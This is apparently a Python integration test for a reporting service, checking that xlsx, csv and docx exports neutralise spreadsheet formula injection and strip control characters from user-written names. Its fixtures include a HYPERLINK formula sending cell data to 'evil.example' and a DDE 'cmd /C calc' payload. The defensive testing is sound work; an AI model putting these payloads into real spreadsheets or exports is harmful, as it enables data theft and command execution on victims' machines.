"""Exports through the real stack: user-written text is never a formula and never breaks a file."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator

import pulse_libs.events.intake as intake
import pytest
from docx import Document
from openpyxl import load_workbook
from pulse_libs.events import topics

from tests.integration.reporting.helpers import (
    Published,
    Reporting,
    at,
    fed,
    submitted,
    triaged,
)

FORMULA_TOPIC = "=1+1"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
UNIT_NAME = "@SUM(1+1)\x07 Phường Đống\x0b Đa"
ORIENTATION_TITLE = "+cmd|' /C calc'!A0\x1b định hướng"


def hostile_events() -> Published:
    """A registry and campaign whose names were written to attack spreadsheets and XML writers."""
    out = Published()
    out.add(
        topics.INTAKE_REGISTRY,
        intake.UNIT_UPSERTED,
        intake.UnitUpserted(code="u1", name=UNIT_NAME, kind="ward"),
        "u1",
    )
    out.add(topics.INTAKE_REGISTRY, intake.TOPIC_UPSERTED, intake.TopicUpserted(code="f1", name=FORMULA_TOPIC), "f1")
    out.add(topics.INTAKE_REGISTRY, intake.TOPIC_UPSERTED, intake.TopicUpserted(code="f2", name=HYPERLINK), "f2")
    submitted(out, "x1", unit="u1", observed=at("2026-10-01"), topics_=["f1"])
    triaged(out, "x1", unit="u1", observed=at("2026-10-01"), urgency="urgent", topics_=["f1"])
    submitted(out, "x2", unit="u1", observed=at("2026-10-02"), topics_=["f2"])
    out.add(
        topics.INTAKE_CAMPAIGNS,
        intake.ORIENTATION_PUBLISHED,
        intake.OrientationPublished(
            orientation_id="o1",
            period="2026-10",
            title=ORIENTATION_TITLE,
            guidance="-2+3",
            topic_codes=["f1", "f2"],
            published_at=at("2026-09-15"),
            published_by="u-department",
        ),
        "o1",
    )
    return out


EVENTS = hostile_events().events


@pytest.fixture(scope="module")
async def svc(infra: None) -> AsyncIterator[Reporting]:
    async with fed(EVENTS) as svc:
        yield svc


async def export(svc: Reporting, fmt: str) -> bytes:
    response = await svc.client.get(
        "/v1/periodic-reports/2026-10", params={"format": fmt}, headers=svc.headers("department")
    )
    assert response.status_code == 200, response.text
    return response.content


async def test_xlsx_cells_from_user_text_are_text_never_formulas(svc: Reporting) -> None:
    book = load_workbook(io.BytesIO(await export(svc, "xlsx")))
    values: list[str] = []
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert FORMULA_TOPIC in values  # shown exactly as written, as a string
    assert HYPERLINK in values
    assert "@SUM(1+1) Phường Đống Đa" in values  # control characters removed, the rest intact
    assert not any(ch in v for v in values for ch in "\x07\x0b\x1b")


async def test_csv_fields_from_user_text_cannot_start_a_formula(svc: Reporting) -> None:
    text = (await export(svc, "csv")).decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text)) for field in row]
    assert "'" + FORMULA_TOPIC in fields
    assert "'" + HYPERLINK in fields
    assert "'@SUM(1+1) Phường Đống Đa" in fields
    assert not [f for f in fields if f[:1] in ("=", "+", "-", "@", "\t", "\r")]


async def test_docx_with_control_characters_is_generated_and_keeps_the_text(svc: Reporting) -> None:
    document = Document(io.BytesIO(await export(svc, "docx")))
    text = " ".join(
        [p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells]
    )
    assert FORMULA_TOPIC in text
    assert "@SUM(1+1) Phường Đống Đa" in text
    assert "\x07" not in text
